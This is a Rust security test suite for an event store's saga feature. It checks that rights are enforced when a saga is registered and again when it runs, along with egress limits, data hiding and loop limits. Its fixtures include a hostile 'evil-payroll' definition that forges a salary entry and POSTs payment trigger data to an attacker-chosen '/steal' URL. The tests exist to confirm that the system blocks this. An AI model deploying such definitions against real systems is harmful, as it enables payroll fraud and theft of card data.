//! Sagas run with their registrant's rights (`docs/security.md`): the attack of issue 25 (a key
//! holding only `saga` registers a definition that reads a payment category, appends a forged
//! salary and calls an internal address), each step refused; rights checked again when a step
//! runs; instance details shown only to readers of the trigger's stream.

use std::time::Duration;

use hyper::{Method, StatusCode};
use serde_json::{Value, json};

use crate::common::{Api, serve_with_config};

const CONFIG: &str = "[auth]\napi_keys = true\n";

struct Setup {
    api: Api,
    admin: String,
    _server: crate::support::Server,
    _dir: tempfile::TempDir,
}

async fn setup(config: &str, rules: Value) -> Setup {
    let dir = tempfile::tempdir().unwrap();
    let server = serve_with_config(dir.path(), config);
    let api = Api::new(&server.url);
    let admin = std::fs::read_to_string(dir.path().join("data/initial-admin-key")).unwrap();
    let admin = admin.trim().to_owned();
    let set = api
        .call(
            Method::PUT,
            "/v1/admin/rules",
            Some(&admin),
            &rules.to_string(),
        )
        .await;
    assert_eq!(set.status, StatusCode::OK, "{:?}", set.body);
    Setup {
        api,
        admin,
        _server: server,
        _dir: dir,
    }
}

/// The issue's definition: triggered by category `payment`, it appends a salary under the
/// trigger's key (and, when `url` is given, first posts the trigger's data to it).
fn salary_saga(url: Option<&str>) -> String {
    let mut steps = vec![json!({
        "name": "forge",
        "pivot": true,
        "action": {"append": {"stream": "hr-salary-{{saga.correlationKey}}", "type": "SalarySet",
                              "data": {"amount": 1000000}}}
    })];
    if let Some(url) = url {
        steps.insert(
            0,
            json!({
                "name": "leak",
                "action": {"http": {"method": "POST", "url": url, "body": "{{trigger.data}}"}},
                "compensation": {"http": {"method": "POST", "url": url}}
            }),
        );
    }
    json!({
        "name": "evil-payroll",
        "version": 1,
        "trigger": {"category": "payment"},
        "correlationKey": "/data/id",
        "steps": steps
    })
    .to_string()
}

async fn register(api: &Api, token: &str, definition: &str) -> (StatusCode, Value) {
    let a = api
        .call(Method::POST, "/v1/sagas", Some(token), definition)
        .await;
    (a.status, a.json())
}

/// Waits for an instance of `definition` to reach a final or stuck state; returns it whole.
async fn finished_instance(api: &Api, token: &str, definition: &str) -> Value {
    for _ in 0..150 {
        let listed = api
            .call(
                Method::GET,
                &format!("/v1/saga-instances?definition={definition}"),
                Some(token),
                "",
            )
            .await
            .json();
        if let Some(i) = listed["instances"].as_array().and_then(|a| a.first())
            && i["state"] != "running"
            && i["state"] != "compensating"
        {
            let id = i["sagaId"].as_str().unwrap();
            return api
                .call(
                    Method::GET,
                    &format!("/v1/saga-instances/{id}"),
                    Some(token),
                    "",
                )
                .await
                .json();
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("no instance of {definition} finished");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_saga_grant_alone_cannot_read_append_or_call_what_its_holder_may_not() {
    let s = setup(
        CONFIG,
        json!({"rules": [
            {"role": "evil", "allow": ["saga"], "on": ["evil-*"]},
            {"role": "reader", "allow": ["saga"], "on": ["evil-*"]},
            {"role": "reader", "allow": ["read", "subscribe"], "on": ["payment*"]}
        ]}),
    )
    .await;
    let evil = s.api.key(&s.admin, "mallory", &["evil"]).await;
    // Reading the trigger's category is needed to register what it triggers on.
    let (status, problem) = register(&s.api, &evil, &salary_saga(None)).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{problem}");
    let detail = problem["detail"].as_str().unwrap();
    assert!(
        detail.contains("read") && detail.contains("payment"),
        "{detail}"
    );

    // Reading it is not enough to append where the template can reach.
    let reader = s.api.key(&s.admin, "eve", &["reader"]).await;
    let (status, problem) = register(&s.api, &reader, &salary_saga(None)).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{problem}");
    let detail = problem["detail"].as_str().unwrap();
    assert!(
        detail.contains("append") && detail.contains("hr-salary-{{saga.correlationKey}}"),
        "{detail}"
    );

    // A target chosen by the trigger's data is refused for anyone.
    let mut chosen: Value = serde_json::from_str(&salary_saga(Some("http://x/"))).unwrap();
    chosen["steps"][0]["action"]["http"]["url"] = json!("http://{{trigger.data.host}}/steal");
    let (status, problem) = register(&s.api, &s.admin, &chosen.to_string()).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
    assert!(
        problem["detail"]
            .as_str()
            .unwrap()
            .contains("scheme, host or port"),
        "{problem}"
    );
    assert_eq!(
        s.api
            .call(Method::GET, "/v1/streams/hr-salary-2", Some(&s.admin), "")
            .await
            .status,
        StatusCode::NOT_FOUND
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rights_are_checked_again_when_a_step_runs() {
    let s = setup(
        CONFIG,
        json!({"rules": [
            {"role": "payroll", "allow": ["saga"], "on": ["evil-*"]},
            {"role": "payroll", "allow": ["read", "subscribe"], "on": ["payment*"]},
            {"role": "payroll", "allow": ["append"], "on": ["hr-salary-*"]}
        ]}),
    )
    .await;
    let payroll = s.api.key(&s.admin, "payroll-bot", &["payroll"]).await;
    let (status, answer) = register(&s.api, &payroll, &salary_saga(None)).await;
    assert_eq!(status, StatusCode::CREATED, "{answer}");
    // The append right is taken away after registration.
    let narrower = json!({"rules": [
        {"role": "payroll", "allow": ["saga"], "on": ["evil-*"]},
        {"role": "payroll", "allow": ["read", "subscribe"], "on": ["payment*"]}
    ]});
    let set = s
        .api
        .call(
            Method::PUT,
            "/v1/admin/rules",
            Some(&s.admin),
            &narrower.to_string(),
        )
        .await;
    assert_eq!(set.status, StatusCode::OK);
    let paid = r#"{"events":[{"type":"Paid","data":{"id":"2","card":"4111 1111 1111 1111"}}]}"#;
    let appended = s
        .api
        .call(Method::POST, "/v1/streams/payment-2", Some(&s.admin), paid)
        .await;
    assert_eq!(appended.status, StatusCode::CREATED);
    let instance = finished_instance(&s.api, &s.admin, "evil-payroll").await;
    assert_eq!(instance["state"], "compensated", "{instance}");
    let failed = instance["history"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["type"] == "StepFailed")
        .expect("the step failed");
    let error = failed["data"]["error"].as_str().unwrap();
    assert!(error.contains("forbidden"), "{error}");
    assert_eq!(
        s.api
            .call(Method::GET, "/v1/streams/hr-salary-2", Some(&s.admin), "")
            .await
            .status,
        StatusCode::NOT_FOUND,
        "nothing was appended"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_revoked_registrant_starts_no_saga() {
    let s = setup(
        CONFIG,
        json!({"rules": [
            {"role": "payroll", "allow": ["saga"], "on": ["evil-*"]},
            {"role": "payroll", "allow": ["read", "subscribe"], "on": ["payment*"]},
            {"role": "payroll", "allow": ["append"], "on": ["hr-salary-*"]}
        ]}),
    )
    .await;
    let payroll = s.api.key(&s.admin, "payroll-bot", &["payroll"]).await;
    let (status, _) = register(&s.api, &payroll, &salary_saga(None)).await;
    assert_eq!(status, StatusCode::CREATED);
    let id = payroll.split('_').nth(1).unwrap();
    let revoked = s
        .api
        .call(
            Method::DELETE,
            &format!("/v1/admin/keys/{id}"),
            Some(&s.admin),
            "",
        )
        .await;
    assert!(revoked.status.is_success(), "{:?}", revoked.body);
    let paid = r#"{"events":[{"type":"Paid","data":{"id":"3"}}]}"#;
    s.api
        .call(Method::POST, "/v1/streams/payment-3", Some(&s.admin), paid)
        .await;
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let listed = s
        .api
        .call(Method::GET, "/v1/saga-instances", Some(&s.admin), "")
        .await
        .json();
    assert_eq!(listed["instances"], json!([]), "{listed}");
    let metrics = s
        .api
        .call(Method::GET, "/metrics", Some(&s.admin), "")
        .await;
    let text = String::from_utf8_lossy(&metrics.body);
    assert!(
        text.lines()
            .any(|l| l.starts_with("skald_saga_triggers_refused_total") && !l.ends_with(" 0")),
        "the refusal is counted"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http_steps_reach_only_what_the_egress_policy_allows() {
    // A listener on loopback that must never be called.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let target = format!("http://{}/collect", listener.local_addr().unwrap());
    let called = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let flag = std::sync::Arc::clone(&called);
    tokio::spawn(async move {
        if listener.accept().await.is_ok() {
            flag.store(true, std::sync::atomic::Ordering::SeqCst);
        }
    });
    let s = setup(CONFIG, json!({"rules": []})).await;
    let (status, answer) = register(&s.api, &s.admin, &salary_saga(Some(&target))).await;
    assert_eq!(status, StatusCode::CREATED, "{answer}");
    let paid = r#"{"events":[{"type":"Paid","data":{"id":"4","card":"4111"}}]}"#;
    s.api
        .call(Method::POST, "/v1/streams/payment-4", Some(&s.admin), paid)
        .await;
    let instance = finished_instance(&s.api, &s.admin, "evil-payroll").await;
    assert_eq!(instance["state"], "compensated", "{instance}");
    let error = instance["history"][1]["data"]["error"].as_str().unwrap();
    assert!(error.contains("egress policy refuses"), "{error}");
    assert!(
        !called.load(std::sync::atomic::Ordering::SeqCst),
        "the loopback listener was not reached"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn instance_details_show_data_only_to_readers_of_the_trigger() {
    let s = setup(
        CONFIG,
        json!({"rules": [
            {"role": "watcher", "allow": ["saga"], "on": ["evil-*"]}
        ]}),
    )
    .await;
    let watcher = s.api.key(&s.admin, "watcher", &["watcher"]).await;
    let (status, _) = register(&s.api, &s.admin, &salary_saga(None)).await;
    assert_eq!(status, StatusCode::CREATED);
    let paid = r#"{"events":[{"type":"Paid","data":{"id":"5","card":"4111 1111 1111 1111"}}]}"#;
    s.api
        .call(Method::POST, "/v1/streams/payment-5", Some(&s.admin), paid)
        .await;
    let full = finished_instance(&s.api, &s.admin, "evil-payroll").await;
    assert!(full.to_string().contains("4111"), "an admin sees the data");
    let seen = finished_instance(&s.api, &watcher, "evil-payroll").await;
    let text = seen.to_string();
    assert!(!text.contains("4111"), "{text}");
    assert_eq!(seen["history"][0]["data"]["trigger"]["stream"], "payment-5");
    assert!(seen["history"][0]["data"]["trigger"]["data"].is_null());
    let output = &seen["history"][1]["data"]["output"];
    assert!(
        output.as_str().is_some_and(|o| o.starts_with("hidden")),
        "{output}"
    );
}

/// Instances of `definition` the admin sees (at most 1000).
async fn instances_of(s: &Setup, definition: &str) -> Vec<Value> {
    let listed = s
        .api
        .call(
            Method::GET,
            &format!("/v1/saga-instances?definition={definition}&limit=1000"),
            Some(&s.admin),
            "",
        )
        .await
        .json();
    listed["instances"].as_array().cloned().unwrap_or_default()
}

/// Waits until an instance of `definition` with `key` exists, and returns it.
async fn instance_with_key(s: &Setup, definition: &str, key: &str) -> Value {
    for _ in 0..200 {
        if let Some(i) = instances_of(s, definition)
            .await
            .into_iter()
            .find(|i| i["correlationKey"] == key)
        {
            return i;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("no instance of {definition} for key {key}");
}

/// Two definitions that trigger each other, each instance under a new key: a loop no single
/// definition shows.
fn ping_pong(name: &str, from: &str, to: &str) -> String {
    json!({
        "name": name,
        "version": 1,
        "trigger": {"category": from},
        "correlationKey": "/data/id",
        "steps": [{"name": "bounce", "pivot": true,
                   "action": {"append": {"stream": format!("{to}-1"), "type": "Bounced",
                                         "data": {"id": "{{saga.id}}"}}}}]
    })
    .to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sagas_that_loop_are_refused_rate_limited_and_can_be_disabled_and_deleted() {
    let s = setup(
        "[auth]\napi_keys = true\n[sagas]\nmax_starts_per_second = 5\n",
        json!({"rules": [
            {"role": "loopy", "allow": ["saga"], "on": ["x-*"]},
            {"role": "loopy", "allow": ["read", "subscribe", "append"], "on": ["loopy*"]}
        ]}),
    )
    .await;
    // The issue's loop, by a key that holds every right it uses: refused for what it is.
    let loopy = s.api.key(&s.admin, "loopy-bot", &["loopy"]).await;
    let looping = json!({
        "name": "x-loop", "version": 1, "trigger": {"category": "loopy"},
        "correlationKey": "/data/id",
        "steps": [{"name": "again", "pivot": true,
                   "action": {"append": {"stream": "loopy-{{saga.id}}", "type": "Again"}}}]
    })
    .to_string();
    let (status, answer) = register(&s.api, &loopy, &looping).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{answer}");
    assert!(
        answer["detail"].as_str().unwrap().contains("own trigger"),
        "{answer}"
    );

    // A loop through two definitions is held to the start rate.
    for (name, from, to) in [("ping", "ping", "pong"), ("pong", "pong", "ping")] {
        let (status, answer) = register(&s.api, &s.admin, &ping_pong(name, from, to)).await;
        assert_eq!(status, StatusCode::CREATED, "{answer}");
    }
    let serve = r#"{"events":[{"type":"Served","data":{"id":"0"}}]}"#;
    s.api
        .call(Method::POST, "/v1/streams/ping-0", Some(&s.admin), serve)
        .await;
    for _ in 0..400 {
        if instances_of(&s, "ping").await.len() > 6 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let metrics = s
        .api
        .call(Method::GET, "/metrics", Some(&s.admin), "")
        .await;
    let text = String::from_utf8_lossy(&metrics.body);
    assert!(
        text.lines()
            .any(|l| l.starts_with("skald_saga_start_waits_total") && !l.ends_with(" 0")),
        "the loop waited for the start rate"
    );

    // Disabling one side ends the loop: a pong written after it starts nothing.
    let refused = s
        .api
        .call(Method::POST, "/v1/sagas/pong/disable", Some(&loopy), "")
        .await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
    let disabled = s
        .api
        .call(Method::POST, "/v1/sagas/pong/disable", Some(&s.admin), "")
        .await;
    assert_eq!(disabled.status, StatusCode::OK, "{:?}", disabled.body);
    assert_eq!(disabled.json()["changed"], true);
    let listed = s
        .api
        .call(Method::GET, "/v1/sagas", Some(&s.admin), "")
        .await
        .json();
    let pong = listed["sagas"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["name"] == "pong")
        .unwrap();
    assert_eq!(pong["enabled"], false, "{listed}");
    let marker = |id: &str| format!(r#"{{"events":[{{"type":"Served","data":{{"id":"{id}"}}}}]}}"#);
    s.api
        .call(
            Method::POST,
            "/v1/streams/ping-m",
            Some(&s.admin),
            &marker("m1"),
        )
        .await;
    let first = instance_with_key(&s, "ping", "m1").await;
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    while instance_with_key(&s, "ping", "m1").await["state"] != "completed" {
        assert!(std::time::Instant::now() < deadline, "m1 does not complete");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    // The trigger loop passes m1's pong before it starts m2.
    s.api
        .call(
            Method::POST,
            "/v1/streams/ping-m",
            Some(&s.admin),
            &marker("m2"),
        )
        .await;
    instance_with_key(&s, "ping", "m2").await;
    let answered = first["sagaId"].as_str().unwrap();
    assert!(
        instances_of(&s, "pong")
            .await
            .iter()
            .all(|i| i["correlationKey"] != answered),
        "a disabled definition started an instance"
    );

    // Deleted once its instances have ended; audited.
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    loop {
        let deleted = s
            .api
            .call(Method::DELETE, "/v1/sagas/pong", Some(&s.admin), "")
            .await;
        if deleted.status == StatusCode::OK {
            break;
        }
        assert_eq!(deleted.status, StatusCode::CONFLICT, "{:?}", deleted.body);
        assert!(std::time::Instant::now() < deadline, "pong never ends");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let shown = s
        .api
        .call(Method::GET, "/v1/sagas/pong", Some(&s.admin), "")
        .await;
    assert_eq!(shown.status, StatusCode::NOT_FOUND);
    let audit = s
        .api
        .call(
            Method::GET,
            "/v1/streams/$audit?limit=1000",
            Some(&s.admin),
            "",
        )
        .await
        .json();
    let changes: Vec<&Value> = audit["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["type"] == "SagaDisabled" || e["type"] == "SagaDeleted")
        .collect();
    assert_eq!(changes.len(), 2, "{audit}");
    assert!(changes.iter().all(|e| e["data"]["definition"] == "pong"));
}
